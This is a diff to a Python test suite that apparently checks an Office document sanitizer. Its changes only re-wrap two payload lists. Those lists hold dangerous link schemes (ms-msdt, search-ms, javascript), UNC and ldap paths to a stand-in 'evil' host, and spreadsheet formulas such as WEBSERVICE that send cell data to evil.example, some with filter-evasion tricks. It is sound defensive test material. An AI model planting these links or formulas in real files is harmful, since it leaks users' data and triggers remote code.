@@ -422,8 +422,8 @@ def a_part_from_outside_that_says_it_is_inside(content: bytes, random: Random) -
 
 ODD = ("javascript:alert(1)", "java&#9;script:alert(1)", "\u200bJavaScript:x", "vbscript:x", "data:text/html,x",
        "ms-msdt:/id%20PCWDiagnostic", "search-ms:query=a", "mhtml:http://a!b", "shell:startup",
-       "ms-word:ofe|u|http://a",
-       "\\\\evil\\share", "//evil/share", "file://evil/share/a", "%5C%5Cevil/a", "/\\evil/a", "ldap://evil")  # fmt: skip
+       "ms-word:ofe|u|http://a", "\\\\evil\\share",
+       "//evil/share", "file://evil/share/a", "%5C%5Cevil/a", "/\\evil/a", "ldap://evil")  # fmt: skip
 
 
 @attack("links", refusals.OddLink, *OFFICE)
@@ -549,7 +549,8 @@ CALLS = ['_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', 'RTD("a.b",,"c")', '
          'REGISTER.ID("a","b")', 'IMPORTXML("http://evil.example","//a")', '_xlfn.IMPORTTEXT("http://evil.example/a")',
          "I&#77;AGE(A1)", "IM<!-- -->AGE(A1)", "<![CDATA[IMAGE(A1)]]>",
          # What a name or a text is taken for does not hide a call.
-         "'a\"b'!A1+WEBSERVICE(\"x\")", "SUM(T['#a])+WEBSERVICE(A1&amp;T['#b])", '"it\'s"&amp;IMAGE("\'!")']  # fmt: skip
+         "'a\"b'!A1+WEBSERVICE(\"x\")", "SUM(T['#a])+WEBSERVICE(A1&amp;T['#b])",
+         '"it\'s"&amp;IMAGE("\'!")']  # fmt: skip
 
 
 @attack("formulas", refusals.FetchesData, EXCEL)
